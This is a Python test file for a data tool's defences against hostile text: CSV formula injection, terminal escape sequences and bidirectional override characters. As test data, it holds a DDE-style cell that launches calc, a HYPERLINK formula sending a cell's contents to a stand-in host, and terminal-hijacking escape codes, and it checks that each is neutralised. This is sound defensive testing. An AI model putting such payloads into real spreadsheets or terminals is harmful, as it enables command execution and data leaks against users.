"""Hostile text is inert: formulas in every CSV sceval writes, control characters in the
contracts and on the terminal (issue 14, point 4). Each test is a probe that passed through
unharmed before the defences existed."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import duckdb
import pytest

from sceval.safe_text import escape_controls, neutralise, terminal_safe

VALID = Path(__file__).resolve().parents[1] / "fixtures" / "valid"
ACLED = Path(__file__).resolve().parents[1] / "adapters" / "data" / "acled_sample.csv"
FORMULA = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ("\x1b[2J\x1b]0;pwned\x07", "\x00", "\x07", "evil\u202etxt.exe")


def valid_copy(tmp_path: Path) -> Path:
    data = tmp_path / "data"
    shutil.copytree(VALID, data)
    return data


def replace_cell(path: Path, row: int, column: str, value: str) -> None:
    """Set one cell of a CSV (row 1 = first data row), quoting as csv does."""
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    rows[row][rows[0].index(column)] = value
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)


def test_rejects_file_neutralises_formulas(sceval_cli, tmp_path):
    src = tmp_path / "acled.csv"
    shutil.copy(ACLED, src)
    replace_cell(src, 1, "event_date", "soon")  # rejected: not a date
    replace_cell(src, 1, "location", '=HYPERLINK("http://x.invalid/?d="&A1,"click")')
    replace_cell(src, 1, "admin1", "@SUM(1+1)*cmd|' /C calc'!A0")
    replace_cell(src, 1, "admin2", "-2+3")
    replace_cell(src, 2, "fatalities", "many")  # rejected: not a number
    replace_cell(src, 2, "notes", "+1+1")
    rejects = tmp_path / "rejects.csv"
    r = sceval_cli(
        "load",
        "--from",
        "acled",
        str(src),
        "--accept-partial",
        "--rejects",
        str(rejects),
        "--db",
        str(tmp_path / "wh.duckdb"),
    )
    assert r.returncode == 0, r.stderr
    text = rejects.read_text(encoding="utf-8")
    assert "HYPERLINK" in text and "@SUM" in text and "-2+3" in text
    with rejects.open(newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert [c for c in cells if c.startswith(FORMULA)] == []
    assert "'=HYPERLINK(" in text and "'-2+3" in text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1", "'\t=1"),
        ("\r@x", "'\r@x"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (3, 3),
    ],
)
def test_neutralise(text, expected):
    assert neutralise(text) == expected


def test_terminal_safe_escapes_every_control_character():
    assert terminal_safe("a\x1b[31mb\x00c\x07d\u202ee\rf") == "a\\x1b[31mb\\x00c\\x07d\\u202ee\\rf"
    assert terminal_safe("line\nnext\ttab é ✓") == "line\nnext\ttab é ✓"
    assert escape_controls("\x9b\u2066") == "\\x9b\\u2066"


@pytest.mark.parametrize("value", HOSTILE)
def test_contract_refuses_control_characters(cli, tmp_path, value):
    data = valid_copy(tmp_path)
    replace_cell(data / "units.csv", 2, "name", "Battalion " + value)
    code, out, _ = cli("validate", str(data / "units.csv"))
    assert code == 1
    assert "units.name.plain_text" in out and "row 2" in out
    assert not any(ch in out for ch in "\x1b\x00\x07\u202e")


def test_refused_text_is_not_loaded(cli, tmp_path):
    data = valid_copy(tmp_path)
    replace_cell(data / "units.csv", 1, "name", "\x1b[2JCoast Guard")
    db = tmp_path / "wh.duckdb"
    code, _, err = cli("load", str(data), "--db", str(db))
    assert code == 1 and "units.name.plain_text" in err
    assert "\x1b" not in err


def test_column_declared_escape_stores_visible_escapes(cli, tmp_path):
    data = valid_copy(tmp_path)
    replace_cell(data / "incidents.csv", 1, "source", "UN panel\x1b[2J \u202eevil")
    db = tmp_path / "wh.duckdb"
    code, _, err = cli("load", str(data), "--db", str(db))
    assert code == 0, err
    with duckdb.connect(str(db), read_only=True) as con:
        stored = con.execute("SELECT source FROM incidents WHERE incident_id = 'I1'").fetchone()[0]
    assert stored == "UN panel\\x1b[2J \\u202eevil"


def test_check_prints_control_characters_escaped(cli, tmp_path, capsys):
    """A finding whose text carries an escape sequence (from any road into the warehouse)
    reaches the terminal as visible text."""
    data = valid_copy(tmp_path)
    db = tmp_path / "wh.duckdb"
    assert cli("load", str(data), "--db", str(db))[0] == 0
    from rich.console import Console

    from sceval.dnh import print_findings

    with duckdb.connect(str(db)) as con:
        con.execute(
            "INSERT INTO runs (run_id, started_at, finished_at, as_of, command, engine_version,"
            " catalogue_hash, input_files, status) VALUES ('r1', now()::TIMESTAMP,"
            " now()::TIMESTAMP, DATE '2024-01-01', 'check', 'x', 'h', '[]', 'ok')"
        )
        con.execute(
            "INSERT INTO dnh_findings (run_id, check_id, program_id, unit_id, severity, status,"
            " message) VALUES ('r1', 'defection', 'P1', 'U\x1b[1m', 'high', 'flag',"
            " 'unit \x1b]0;title\x07 \u202eabc')"
        )
        capsys.readouterr()
        for terminal in (False, True):
            print_findings(con, "r1", Console(force_terminal=terminal, width=200))
            out = capsys.readouterr().out
            assert "\\x1b]0;title\\x07" in out and "\\u202eabc" in out
            assert "\x1b]0;" not in out and "\x07" not in out and "\u202e" not in out
